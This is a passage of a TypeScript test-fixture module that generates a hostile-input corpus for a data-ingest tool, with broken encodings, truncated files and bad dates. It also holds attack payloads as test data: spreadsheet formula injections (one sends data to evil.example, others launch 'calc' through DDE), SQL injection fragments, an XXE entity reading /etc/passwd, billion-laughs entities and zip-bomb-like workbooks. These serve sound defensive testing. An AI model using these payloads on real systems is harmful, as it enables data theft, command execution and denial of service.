/**
 * Hostile-input corpus for the ingest (issue 8): every supported format broken in the ways real exports
 * break, each file with the outcome the ingest rules of issue 2 demand —
 *   'stored'  the good rows are stored and every bad row is listed (file / row / column / reason), or
 *   'refused' the whole file (and so the batch) is refused with one clear message naming the file, or
 *   'either'  both are acceptable (the spec still checks every invariant: no crash, no half batch, no change
 *             to previously imported data).
 * Everything is written into a temp dir given by the caller; nothing generated here is committed.
 *
 * The baseline (`writeBaseline`) lives in department D01 (items IB1/IB2, cases B…); the corpus writes only
 * department D02's items I001/I002 (or codes that do not exist), so D01's KPIs and rows must never move.
 */
import fs from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { DuckDBInstance } from '@duckdb/node-api';
import { gbEncode } from '../../fixtures/ingest-data';
import { sheetRows, xlsx, SHEET_NS } from './zip';

export type ExpectedReject = { row: number; column?: string; reason: string | RegExp };

export type Expectation =
	| { outcome: 'refused'; mention?: RegExp }
	| {
			outcome: 'stored';
			/** rows stored (new + replaced) over the batch's files */
			stored: number;
			/** rows rejected over the batch's files */
			rejected: number;
			/** rejects that must be listed exactly (row numbers as a spreadsheet shows them) */
			rejects?: ExpectedReject[];
	  }
	| { outcome: 'either' };

export interface CorpusCase {
	id: string;
	/** what it covers (for the docs and failure messages) */
	about: string;
	files: string[];
	table?: string;
	encoding?: 'utf-8' | 'gbk' | 'gb18030';
	expect: Expectation;
	/** extra checks after the import, on the stored data (e.g. verbatim text, flags) */
	verify?: { sql: string; params?: (string | number)[]; equals: unknown }[];
	stress?: boolean;
}

// ------------------------------------------------------------------------------------------------ baseline

export const PERIOD = { from: '2018-01-01', to: '2018-12-31' };
export const BASE_DEPT = 'D01';

const BASE = {
	regions: 'region_code,name,level,parent_code\n430100,长沙市,city,\n430102,芙蓉区,district,430100\n',
	departments:
		'dept_code,name,region_code,peer_group\nD01,市局,430100,city\nD02,区局,430102,county\nD03,县局,430102,county\n',
	items:
		'item_code,name,dept_code,source_dept_code,statutory_days,promised_days,delegation_mode,delegated_on,accepted_on\n' +
		'IB1,基线事项一,D01,,20,10,retained,,\nIB2,基线事项二,D01,D03,15,5,devolved,2017-06-01,2017-06-10\n' +
		'I001,事项一,D02,D01,20,10,devolved,2017-05-01,2017-05-20\nI002,事项二,D02,,15,,retained,,\n'
};

/** Baseline files (one batch): references + 40 D01 cases + 12 ratings. */
export function writeBaseline(dir: string): string {
	const d = path.join(dir, 'baseline');
	fs.mkdirSync(d, { recursive: true });
	for (const [t, text] of Object.entries(BASE)) fs.writeFileSync(path.join(d, `${t}.csv`), text);
	const rows: string[] = [];
	const st = ['completed', 'completed', 'completed', 'in_progress', 'rejected', 'returned'];
	for (let i = 0; i < 40; i++) {
		const day = String((i % 27) + 1).padStart(2, '0');
		const s = st[i % st.length];
		rows.push(
			[
				`B${String(i).padStart(4, '0')}`,
				i % 2 ? 'IB1' : 'IB2',
				'D01',
				'430100',
				['online', 'window', 'self_service'][i % 3],
				i % 2 ? 'person' : 'enterprise',
				`2018-03-${day} 09:${String(i).padStart(2, '0')}`,
				s === 'rejected' ? '' : `2018-03-${day} 10:00`,
				s === 'completed' ? `2018-04-${day} 16:00` : '',
				s,
				String(i % 4)
			].join(',')
		);
	}
	fs.writeFileSync(
		path.join(d, 'cases.csv'),
		'case_id,item_code,dept_code,region_code,channel,applicant_type,submitted_at,accepted_at,completed_at,status,visits\n' +
			rows.join('\n') +
			'\n'
	);
	const ratings = Array.from(
		{ length: 12 },
		(_, i) =>
			`RB${i},B${String(i * 3).padStart(4, '0')},D01,online,2018-04-0${(i % 9) + 1} 12:00,${(i % 5) + 1},${i % 5 < 2 ? '慢' : ''}`
	);
	fs.writeFileSync(
		path.join(d, 'ratings.csv'),
		'rating_id,case_id,dept_code,channel,rated_at,score,reason\n' + ratings.join('\n') + '\n'
	);
	return d;
}

// ------------------------------------------------------------------------------------------------ helpers

export const CASE_COLS = [
	'case_id',
	'item_code',
	'dept_code',
	'region_code',
	'channel',
	'applicant_type',
	'submitted_at',
	'accepted_at',
	'completed_at',
	'status',
	'reject_reason',
	'suspended_days',
	'visits'
] as const;
type CaseCol = (typeof CASE_COLS)[number];
type CaseRow = Partial<Record<CaseCol, string | number | null>>;

function good(id: string, over: CaseRow = {}): Record<CaseCol, string | number | null> {
	return {
		case_id: id,
		item_code: 'I001',
		dept_code: 'D02',
		region_code: '430102',
		channel: 'online',
		applicant_type: 'person',
		submitted_at: '2018-03-05 09:00',
		accepted_at: '2018-03-05 10:00',
		completed_at: '2018-03-07 10:00',
		status: 'completed',
		reject_reason: null,
		suspended_days: null,
		visits: 1,
		...over
	};
}

function field(v: unknown): string {
	if (v === null || v === undefined) return '';
	const s = String(v);
	return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
}

function csv(rows: Record<string, unknown>[], eol = '\n', cols: readonly string[] = CASE_COLS): string {
	return [cols.join(','), ...rows.map((r) => cols.map((c) => field(r[c])).join(','))].join(eol) + eol;
}

const ids = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => `${prefix}-${i + 1}`);

/** Cases named `<prefix>-1 … -n`, all good. */
const goods = (prefix: string, n: number, over: CaseRow = {}) => ids(prefix, n).map((id) => good(id, over));

// ------------------------------------------------------------------------------------------------ corpus

export async function buildCorpus(root: string, opts: { stress?: boolean } = {}): Promise<CorpusCase[]> {
	const dir = path.join(root, 'corpus');
	fs.mkdirSync(dir, { recursive: true });
	const out: CorpusCase[] = [];
	const file = (name: string, data: string | Buffer) => {
		const f = path.join(dir, name);
		fs.mkdirSync(path.dirname(f), { recursive: true });
		fs.writeFileSync(f, data);
		return f;
	};
	const add = (c: CorpusCase) => out.push(c);

	// ---------------- CSV: truncation
	{
		const full = csv(goods('TR1', 5));
		const cut = full.slice(0, full.length - 30); // inside the last row
		add({
			id: 'csv-truncated-mid-row',
			about: 'CSV cut inside the last record (too few fields)',
			files: [file('trunc-row/cases.csv', cut)],
			expect: {
				outcome: 'stored',
				stored: 4,
				rejected: 1,
				rejects: [{ row: 6, reason: /ragged_row|unreadable_row/ }]
			}
		});
		const q = csv([...goods('TR2', 3), good('TR2-4', { reject_reason: 'a, "quoted"\nline' })]);
		add({
			id: 'csv-truncated-open-quote',
			about: 'CSV cut inside a quoted field (quote never closed)',
			files: [file('trunc-quote/cases.csv', q.slice(0, q.lastIndexOf('line') + 2))],
			expect: {
				outcome: 'stored',
				stored: 3,
				rejected: 1,
				rejects: [{ row: 5, reason: /ragged_row|bad_quote|unreadable_row/ }]
			}
		});
		add({
			id: 'csv-truncated-header',
			about: 'CSV cut inside the header line',
			files: [file('trunc-head/cases.csv', 'case_id,item_co')],
			expect: { outcome: 'refused' }
		});
		// UTF-8 cut in the middle of a multi-byte character (the last byte of 受 missing)
		const zh = Buffer.from(csv([...goods('TR3', 3), good('TR3-4', { reject_reason: '材料不全受' })]), 'utf8');
		const at = zh.lastIndexOf(Buffer.from('受', 'utf8'));
		add({
			id: 'csv-truncated-mid-utf8-char',
			about: 'UTF-8 CSV cut inside a multi-byte character',
			files: [file('trunc-utf8/cases.csv', zh.subarray(0, at + 2))],
			expect: {
				outcome: 'stored',
				stored: 3,
				rejected: 1,
				rejects: [{ row: 5, reason: /ragged_row|bad_encoding|unreadable_row/ }]
			}
		});
	}

	// ---------------- CSV: encodings and BOMs
	{
		const zhHeader =
			'办件编号,事项编码,办理部门编码,区划代码,办理渠道,申请人类型,申请时间,受理时间,办结时间,办件状态,不予受理原因,跑动次数';
		const zhRow = (id: string, st = '办结', reason = '') =>
			`${id},I001,D02,430102,网上,自然人,2018/3/5 9:00,2018/3/5 10:00,${st === '办结' ? '2018/3/7 10:00' : ''},${st},${reason},1`;
		const zhText = (p: string, n: number) =>
			[zhHeader, ...ids(p, n).map((id) => zhRow(id))].join('\r\n') + '\r\n';
		add({
			id: 'csv-gbk-detected',
			about: 'GBK with Chinese headers and values (detected)',
			files: [file('enc-gbk/办件.csv', gbEncode(zhText('EG', 4), 'gbk'))],
			expect: { outcome: 'stored', stored: 4, rejected: 0 },
			verify: [
				{
					sql: `SELECT count(*)::INT AS n FROM cases WHERE case_id LIKE 'EG-%' AND status = 'completed'`,
					equals: 4
				}
			]
		});
		add({
			id: 'csv-gbk-declared-utf8',
			about: 'GBK bytes with --encoding utf-8 (wrong declared encoding)',
			files: [file('enc-wrong1/办件.csv', gbEncode(zhText('EW1', 3), 'gbk'))],
			encoding: 'utf-8',
			expect: { outcome: 'refused' }
		});
		add({
			id: 'csv-utf8-declared-gbk',
			about: 'UTF-8 bytes with --encoding gbk (wrong declared encoding): headers turn to mojibake',
			files: [file('enc-wrong2/办件.csv', Buffer.from(zhText('EW2', 3), 'utf8'))],
			encoding: 'gbk',
			expect: { outcome: 'refused' }
		});
		const mixed = Buffer.concat([
			Buffer.from(zhHeader + '\n' + zhRow('MX-1') + '\n' + zhRow('MX-2') + '\n', 'utf8'),
			gbEncode(zhRow('MX-3', '在办', '材料') + '\n', 'gbk'),
			Buffer.from(zhRow('MX-4') + '\n', 'utf8')
		]);
		add({
			id: 'csv-mixed-encodings',
			about: 'UTF-8 file with one GBK-encoded row: the UTF-8 rows stored, the GBK row listed',
			files: [file('enc-mixed/办件.csv', mixed)],
			expect: {
				outcome: 'stored',
				stored: 3,
				rejected: 1,
				rejects: [{ row: 4, reason: /unreadable_row|bad_encoding/ }]
			}
		});
		add({
			id: 'csv-utf8-bom',
			about: 'UTF-8 with BOM and Chinese headers',
			files: [
				file(
					'bom8/办件.csv',
					Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(zhText('BOM8', 3), 'utf8')])
				)
			],
			expect: { outcome: 'stored', stored: 3, rejected: 0 }
		});
		add({
			id: 'csv-double-bom',
			about: 'two UTF-8 BOMs in front of the header',
			files: [
				file(
					'bom88/cases.csv',
					Buffer.concat([
						Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]),
						Buffer.from(csv(goods('BOM88', 2)))
					])
				)
			],
			expect: { outcome: 'either' }
		});
		const u16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csv(goods('U16', 2)), 'utf16le')]);
		add({
			id: 'csv-utf16le-bom',
			about: 'UTF-16LE with BOM (unsupported encoding)',
			files: [file('bom16/cases.csv', u16)],
			expect: { outcome: 'refused' }
		});
	}

	// ---------------- CSV: line endings, quotes, embedded newlines
	{
		add({
			id: 'csv-crlf',
			about: 'CRLF line endings',
			files: [file('eol-crlf/cases.csv', csv(goods('CRLF', 3), '\r\n'))],
			expect: { outcome: 'stored', stored: 3, rejected: 0 }
		});
		add({
			id: 'csv-cr-only',
			about: 'classic Mac CR-only line endings',
			files: [file('eol-cr/cases.csv', csv(goods('CR', 3), '\r'))],
			expect: { outcome: 'either' }
		});
		const mixedEol = csv(goods('MEOL', 4)).split('\n');
		add({
			id: 'csv-mixed-eol',
			about: 'LF, CRLF and CR mixed in one file',
			files: [
				file(
					'eol-mixed/cases.csv',
					mixedEol[0] +
						'\n' +
						mixedEol[1] +
						'\r\n' +
						mixedEol[2] +
						'\n' +
						mixedEol[3] +
						'\r\n' +
						mixedEol[4] +
						'\n'
				)
			],
			expect: { outcome: 'stored', stored: 4, rejected: 0 }
		});
		add({
			id: 'csv-quotes-embedded-newlines',
			about:
				'quoted fields with commas, doubled quotes and CRLF / LF inside; bad row after them keeps its record number',
			files: [
				file(
					'quotes/cases.csv',
					csv([
						good('QT-1', { reject_reason: 'line one\nline two, "quoted"' }),
						good('QT-2', { reject_reason: 'a\r\nb' }),
						good('QT-3', { visits: 'x' }), // record 4 (row 4), despite the embedded newlines above
						good('QT-4', { reject_reason: '"' })
					])
				)
			],
			expect: {
				outcome: 'stored',
				stored: 3,
				rejected: 1,
				rejects: [{ row: 4, column: 'visits', reason: 'bad_number' }]
			},
			verify: [
				{
					sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'QT-1'`,
					equals: 'line one\nline two, "quoted"'
				}
			]
		});
		add({
			id: 'csv-semicolon-tab',
			about: 'semicolon-delimited file',
			files: [file('delim/cases.csv', csv(goods('SEMI', 2)).replaceAll(',', ';'))],
			expect: { outcome: 'stored', stored: 2, rejected: 0 }
		});
	}

	// ---------------- CSV: junk, empty, 0 rows
	{
		let seed = 42;
		const junk = Buffer.alloc(64 * 1024);
		for (let i = 0; i < junk.length; i++) junk[i] = (seed = (seed * 1103515245 + 12345) >>> 0) >>> 24;
		add({
			id: 'csv-binary-junk',
			about: 'random bytes named .csv',
			files: [file('junk/cases.csv', junk)],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'csv-png-named-csv',
			about: 'a PNG header + NULs named .csv',
			files: [
				file(
					'png/cases.csv',
					Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(2048)])
				)
			],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'csv-empty',
			about: 'empty file (0 bytes)',
			files: [file('empty/cases.csv', '')],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'csv-blank-lines',
			about: 'only blank lines',
			files: [file('blank/cases.csv', '\n\n\r\n')],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'csv-header-only',
			about: 'header but 0 rows',
			files: [file('zero/cases.csv', CASE_COLS.join(',') + '\n')],
			expect: { outcome: 'stored', stored: 0, rejected: 0 }
		});
	}

	// ---------------- CSV: headers
	{
		add({
			id: 'csv-missing-required',
			about: 'header lacks required columns (no submitted_at / status)',
			files: [file('hdr-missing/cases.csv', 'case_id,item_code,dept_code\nHM-1,I001,D02\n')],
			expect: { outcome: 'refused', mention: /submitted_at|申请时间/ }
		});
		add({
			id: 'csv-duplicated-header',
			about: 'case_id twice and status twice: ambiguous, refused naming both columns',
			files: [
				file(
					'hdr-dup/cases.csv',
					'case_id,case_id,item_code,dept_code,channel,submitted_at,status,status\nHD-1,XX,I001,D02,online,2018-03-05,completed,bogus\nHD-2,YY,I001,D02,window,2018-03-06,in_progress,\n'
				)
			],
			expect: { outcome: 'refused', mention: /case_id.*case_id/ }
		});
		add({
			id: 'csv-foreign-headers',
			about: 'headers in French (unknown language) — file name says cases',
			files: [
				file('hdr-fr/cases.csv', 'numéro,objet,service,date de dépôt,état\nF1,I001,D02,2018-03-05,terminé\n')
			],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'csv-foreign-headers-unnamed',
			about: 'Japanese headers and a file name naming no table',
			files: [file('hdr-ja/export.csv', '案件番号,項目,部署\nJ1,I001,D02\n')],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'csv-fullwidth-headers',
			about: 'full-width and spaced Chinese headers with units (normalised)',
			files: [
				file(
					'hdr-fw/办件.csv',
					'办件编号 ,事项编码,办理部门编码,办理渠道,申请时间,办件状态,跑动次数（次）\nFW-1,I001,D02,窗口,2018-03-05,在办,2\n'
				)
			],
			expect: { outcome: 'stored', stored: 1, rejected: 0 }
		});
		add({
			id: 'csv-empty-header-cells',
			about: 'blank header cells between real ones',
			files: [
				file(
					'hdr-blank/cases.csv',
					'case_id,,item_code,dept_code,,channel,submitted_at,status\nHB-1,x,I001,D02,y,online,2018-03-05,completed\n'
				)
			],
			expect: { outcome: 'stored', stored: 1, rejected: 0 }
		});
	}

	// ---------------- CSV: dates, durations, codes, duplicates, text
	{
		const forms: [string, string | null][] = [
			['2018-03-05', null],
			['2018/3/5', null],
			['20180305', null],
			['2018年3月5日', null],
			['2018.3.5', null],
			['2018-03-05 9:05', null],
			['2018/3/5 14:02:07', null],
			['2018-03-05T14:02:07+08:00', null],
			['2018-03-05T06:02:07Z', null],
			['43164', null], // Excel serial day
			['2020-02-29', null], // leap day
			['2018-02-30', 'bad_date'],
			['2019-02-29', 'bad_date'],
			['2018-13-01', 'bad_date'],
			['2018-00-10', 'bad_date'],
			['0000-00-00', 'bad_date'],
			['2018-03-05 25:00', 'bad_date'],
			['2018-03-05 14:60', 'bad_date'],
			['5/3/2018', 'bad_date'],
			['March 5, 2018', 'bad_date'],
			['1899-12-31', 'date_out_of_range'],
			['1970-01-01', 'date_out_of_range'],
			['2099-01-01', 'date_out_of_range'],
			['9999-12-31', /bad_date|date_out_of_range/ as unknown as string],
			['-2018-03-05', /bad_date|date_out_of_range/ as unknown as string],
			['2018-03-05; DROP TABLE cases', 'bad_date']
		];
		const rows = forms.map(([v], i) =>
			good(`DT-${i + 1}`, { submitted_at: v, accepted_at: null, completed_at: null, status: 'in_progress' })
		);
		const bad = forms
			.map(([, r], i) => ({ row: i + 2, column: 'submitted_at', reason: r }))
			.filter((r) => r.reason !== null);
		add({
			id: 'csv-date-forms',
			about: 'dates in every odd form, impossible dates, far past / future',
			files: [file('dates/cases.csv', csv(rows))],
			expect: {
				outcome: 'stored',
				stored: forms.filter(([, r]) => r === null).length,
				rejected: bad.length,
				rejects: bad.map((b) => ({ row: b.row, column: b.column, reason: b.reason as string | RegExp }))
			},
			verify: [
				{
					sql: `SELECT strftime(submitted_at, '%Y-%m-%d %H:%M:%S') AS v FROM cases WHERE case_id = 'DT-9'`,
					equals: '2018-03-05 14:02:07'
				},
				{
					sql: `SELECT strftime(submitted_at, '%Y-%m-%d') AS v FROM cases WHERE case_id = 'DT-10'`,
					equals: '2018-03-05'
				}
			]
		});
		add({
			id: 'csv-completion-before-acceptance',
			about:
				'completed_at before accepted_at: stored, elapsed floored at 0, flagged fake_completion_suspect by the engine',
			files: [
				file(
					'order/cases.csv',
					csv([
						good('CB-1', { accepted_at: '2018-03-09 10:00', completed_at: '2018-03-05 10:00' }),
						good('CB-2')
					])
				)
			],
			expect: { outcome: 'stored', stored: 2, rejected: 0 },
			verify: [{ sql: `SELECT elapsed_wd::INT AS v FROM cases WHERE case_id = 'CB-1'`, equals: 0 }]
		});
		add({
			id: 'csv-durations',
			about: 'negative, fractional, enormous and overflowing durations / counts',
			files: [
				file(
					'durations/cases.csv',
					csv([
						good('DU-1', { suspended_days: -3 }), // row 2 negative
						good('DU-2', { suspended_days: '99999999999' }), // row 3 > 2^31
						good('DU-3', { visits: '1e3' }), // row 4: a whole number in E notation (Excel writes 1E+03) → 1000
						good('DU-4', { visits: '2147483648' }), // row 5
						good('DU-5', { suspended_days: '2000000000' }), // row 6: huge but valid → elapsed floored at 0
						good('DU-6', { accepted_at: '2000-01-04 09:00', completed_at: '2035-12-28 09:00' }), // row 7: 36 years
						good('DU-7', { visits: '-0' }), // row 8
						good('DU-8', { visits: 'NaN' }), // row 9
						good('DU-9', { visits: 'Infinity' }) // row 10
					])
				)
			],
			expect: {
				outcome: 'stored',
				stored: 4,
				rejected: 5,
				rejects: [
					{ row: 2, column: 'suspended_days', reason: 'negative_value' },
					{ row: 3, column: 'suspended_days', reason: 'bad_number' },
					{ row: 5, column: 'visits', reason: 'bad_number' },
					{ row: 9, column: 'visits', reason: 'bad_number' },
					{ row: 10, column: 'visits', reason: 'bad_number' }
				]
			},
			verify: [
				{ sql: `SELECT elapsed_wd::INT AS v FROM cases WHERE case_id = 'DU-5'`, equals: 0 },
				{ sql: `SELECT visits::INT AS v FROM cases WHERE case_id = 'DU-3'`, equals: 1000 },
				{ sql: `SELECT (elapsed_wd > 8000)::INT AS v FROM cases WHERE case_id = 'DU-6'`, equals: 1 }
			]
		});
		add({
			id: 'csv-duplicate-ids-in-file',
			about: 'the same case_id three times in one file (first kept, the others listed with the first row)',
			files: [
				file(
					'dup-in/cases.csv',
					csv([
						good('DI-1'),
						good('DI-2'),
						good('DI-1', { status: 'in_progress', completed_at: null }),
						good('DI-1')
					])
				)
			],
			expect: {
				outcome: 'stored',
				stored: 2,
				rejected: 2,
				rejects: [
					{ row: 4, column: 'case_id', reason: 'duplicate_key' },
					{ row: 5, column: 'case_id', reason: 'duplicate_key' }
				]
			}
		});
		add({
			id: 'csv-duplicate-ids-across-files',
			about: 'the same case_ids in two files of one batch (later file name upserts, one row per key)',
			files: [
				file(
					'dup-across/cases-a.csv',
					csv([good('DA-1', { status: 'in_progress', completed_at: null }), good('DA-2')])
				),
				file(
					'dup-across/cases-b.csv',
					csv([good('DA-1', { completed_at: '2018-03-08 10:00' }), good('DA-3')])
				)
			],
			expect: { outcome: 'stored', stored: 4, rejected: 0 },
			verify: [
				{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id LIKE 'DA-%'`, equals: 3 },
				{ sql: `SELECT status AS v FROM cases WHERE case_id = 'DA-1'`, equals: 'completed' }
			]
		});
		add({
			id: 'csv-unknown-codes',
			about: 'unknown item and department codes',
			files: [
				file(
					'codes/cases.csv',
					csv([
						good('UC-1', { item_code: 'NOPE' }),
						good('UC-2', { dept_code: 'D99' }),
						good('UC-3'),
						good('UC-4', { item_code: "I001' OR '1'='1" })
					])
				)
			],
			expect: {
				outcome: 'stored',
				stored: 1,
				rejected: 3,
				rejects: [
					{ row: 2, column: 'item_code', reason: 'unknown_code' },
					{ row: 3, column: 'dept_code', reason: 'unknown_code' },
					{ row: 5, column: 'item_code', reason: 'unknown_code' }
				]
			}
		});
		const inj = [
			'=HYPERLINK("http://evil.example/?"&A1,"click")',
			"+cmd|' /C calc'!A0",
			"-2+3+cmd|' /C calc'!A0",
			"@SUM(1+1)*cmd|'/C calc'!A0",
			'\t=1+1',
			'\r=1+1'
		];
		add({
			id: 'csv-formula-injection',
			about: 'formula-injection strings in text fields: stored verbatim (neutralised only at export)',
			files: [file('formula/cases.csv', csv(inj.map((v, i) => good(`FI-${i + 1}`, { reject_reason: v }))))],
			expect: { outcome: 'stored', stored: inj.length, rejected: 0 },
			verify: [{ sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'FI-1'`, equals: inj[0] }]
		});
		const sql = [
			"'; DROP TABLE cases; --",
			"' OR '1'='1",
			'"); DELETE FROM cases; --',
			"Robert'); DROP TABLE items;--",
			"1; ATTACH '/etc/passwd' AS x;",
			'$1 || (SELECT version())'
		];
		add({
			id: 'csv-sql-fragments',
			about: 'SQL fragments in keys and text fields: stored verbatim, nothing executed',
			files: [
				file(
					'sql/cases.csv',
					csv(sql.map((v, i) => good(`SQ-${i + 1}${i === 0 ? v : ''}`, { reject_reason: v })))
				)
			],
			expect: { outcome: 'stored', stored: sql.length, rejected: 0 },
			verify: [
				{
					sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id = $1`,
					params: [`SQ-1${sql[0]}`],
					equals: 1
				},
				{ sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'SQ-2'`, equals: sql[1] }
			]
		});
		const ctl = [
			'bell\u0007',
			'esc\u001b[31mred',
			'rtl\u202etxt.exe',
			'zero\u200bwidth',
			'del\u007f',
			'nul\u0000byte',
			'surrogate\ud83d\ude00ok',
			'lone\u0085nel'
		];
		add({
			id: 'csv-control-characters',
			about: 'control characters, bidi overrides, NUL, zero-width and emoji in text fields',
			files: [file('ctl/cases.csv', csv(ctl.map((v, i) => good(`CT-${i + 1}`, { reject_reason: v }))))],
			expect: { outcome: 'either' },
			verify: [{ sql: `SELECT reject_reason AS v FROM cases WHERE case_id = 'CT-3'`, equals: ctl[2] }]
		});
		add({
			id: 'csv-overlong-field',
			about: 'a 2 MB text field in one row (below the 10 MB line limit)',
			files: [
				file('long/cases.csv', csv([good('LF-1', { reject_reason: 'x'.repeat(2_000_000) }), good('LF-2')]))
			],
			expect: { outcome: 'either' }
		});
	}

	// ---------------- XLSX
	{
		const rows = [[...CASE_COLS] as (string | number | null)[]];
		for (const r of [
			good('XL-1'),
			good('XL-2', { visits: 'many' }),
			good('XL-3', { submitted_at: '2018-02-30' }),
			good('XL-4')
		])
			rows.push(CASE_COLS.map((c) => r[c] as string | number | null));
		const okBook = xlsx({ sheets: [{ name: 'cases', rows: sheetRows(rows) }] });
		add({
			id: 'xlsx-rows-with-rejects',
			about: 'XLSX with two bad rows (spreadsheet row numbers)',
			files: [file('xlsx-ok/cases.xlsx', okBook)],
			expect: {
				outcome: 'stored',
				stored: 2,
				rejected: 2,
				rejects: [
					{ row: 3, column: 'visits', reason: 'bad_number' },
					{ row: 4, column: 'submitted_at', reason: 'bad_date' }
				]
			}
		});
		add({
			id: 'xlsx-truncated-mid-file',
			about: 'XLSX zip cut at 60 %',
			files: [file('xlsx-trunc/cases.xlsx', okBook.subarray(0, Math.floor(okBook.length * 0.6)))],
			expect: { outcome: 'refused' }
		});
		const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${SHEET_NS}"><sheetData>${sheetRows(rows)}</sheetData></worksheet>`;
		add({
			id: 'xlsx-truncated-mid-row',
			about: 'sheet XML cut inside a row (malformed part)',
			files: [
				file(
					'xlsx-trunc-row/cases.xlsx',
					xlsx({ sheets: [{ name: 'cases', sheetXml: sheet.slice(0, sheet.indexOf('XL-3') + 2) }] })
				)
			],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xlsx-not-a-zip',
			about: 'CSV text named .xlsx',
			files: [file('xlsx-text/cases.xlsx', csv(goods('XT', 2)))],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xlsx-empty',
			about: 'empty .xlsx',
			files: [file('xlsx-empty/cases.xlsx', '')],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xlsx-no-rows',
			about: 'workbook whose only sheet is empty',
			files: [file('xlsx-norows/cases.xlsx', xlsx({ sheets: [{ name: 'cases', rows: '' }] }))],
			expect: { outcome: 'either' }
		});
		add({
			id: 'xlsx-header-only',
			about: 'workbook with a header row only (0 data rows)',
			files: [
				file('xlsx-head/cases.xlsx', xlsx({ sheets: [{ name: 'cases', rows: sheetRows([rows[0]]) }] }))
			],
			expect: { outcome: 'either' }
		});
		// zip bomb-like: 60 M characters of one shared string compress to ~60 KB
		const bombSst = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${SHEET_NS}" count="1" uniqueCount="1"><si><t>${'A'.repeat(60_000_000)}</t></si></sst>`;
		add({
			id: 'xlsx-bomb-shared-string',
			about: 'zip bomb-like: one 60 M-character shared string (deflates 1000:1)',
			files: [
				file(
					'xlsx-bomb1/cases.xlsx',
					xlsx({
						sheets: [
							{
								name: 'cases',
								rows: sheetRows([[...CASE_COLS]]) + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
							}
						],
						sharedStrings: bombSst
					})
				)
			],
			expect: { outcome: 'refused' }
		});
		add({
			id: 'xlsx-bomb-declared-size',
			about: 'zip bomb-like: a sheet declaring 4.2 GB uncompressed',
			files: [
				file(
					'xlsx-bomb2/cases.xlsx',
					xlsx({ sheets: [{ name: 'cases', rows: sheetRows(rows), declaredSize: 0xfffffff0 }] })
				)
			],
			expect: { outcome: 'either' }
		});
		// a sheet that inflates to ~120 MB of empty rows (no values): must be skipped without holding it
		const emptyRows = Buffer.from(
			`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${SHEET_NS}"><sheetData>${sheetRows(rows)}` +
				'<row r="9"><c r="A9"/></row>'.repeat(2_000_000) +
				`</sheetData></worksheet>`
		);
		add({
			id: 'xlsx-bomb-empty-rows',
			about: 'zip bomb-like: 60 MB of empty cells after 4 data rows',
			files: [file('xlsx-bomb3/cases.xlsx', xlsx({ sheets: [{ name: 'cases', sheetXml: emptyRows }] }))],
			expect: { outcome: 'either' }
		});
		const dtd = `<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet xmlns="${SHEET_NS}"><sheetData>${sheetRows([[...CASE_COLS]])}<row r="2"><c r="A2" t="inlineStr"><is><t>&e;&x;</t></is></c></row></sheetData></worksheet>`;
		add({
			id: 'xlsx-entity-expansion',
			about: 'billion-laughs entities and an external entity (XXE) in a sheet',
			files: [file('xlsx-xxe/cases.xlsx', xlsx({ sheets: [{ name: 'cases', sheetXml: dtd }] }))],
			expect: { outcome: 'either' },
			verify: [
				{
					sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id LIKE '%root:%' OR case_id LIKE '%aaaaaaaaaa%'`,
					equals: 0
				}
			]
		});
	}

	// ---------------- Parquet, JSON, NDJSON
	{
		const inst = await DuckDBInstance.create(':memory:');
		const conn = await inst.connect();
		try {
			const pq = path.join(dir, 'parquet-ok/cases.parquet');
			fs.mkdirSync(path.dirname(pq), { recursive: true });
			await conn.run(`COPY (SELECT * FROM (VALUES
				('PQ-1','I001','D02','online', TIMESTAMP '2018-03-05 09:00', 'completed', TIMESTAMP '2018-03-07 10:00', 1.0),
				('PQ-2','I001','D02','window', TIMESTAMP '2018-03-05 09:00', 'bogus', NULL, 2.5),
				('PQ-3','NOPE','D02','online', TIMESTAMP '2018-03-05 09:00', 'in_progress', NULL, 0),
				('PQ-4','I001','D02','online', TIMESTAMP '2018-03-05 09:00', 'in_progress', NULL, -1)
			) t(case_id, item_code, dept_code, channel, submitted_at, status, completed_at, visits)) TO '${pq}' (FORMAT parquet)`);
			add({
				id: 'parquet-rows-with-rejects',
				about: 'Parquet with typed columns and bad values',
				files: [pq],
				expect: {
					outcome: 'stored',
					stored: 1,
					rejected: 3,
					rejects: [
						{ row: 2, column: 'status', reason: 'unknown_value' },
						{ row: 2, column: 'visits', reason: 'bad_number' },
						{ row: 3, column: 'item_code', reason: 'unknown_code' },
						{ row: 4, column: 'visits', reason: 'negative_value' }
					]
				}
			});
			const bytes = fs.readFileSync(pq);
			add({
				id: 'parquet-truncated',
				about: 'Parquet cut at 70 % (footer gone)',
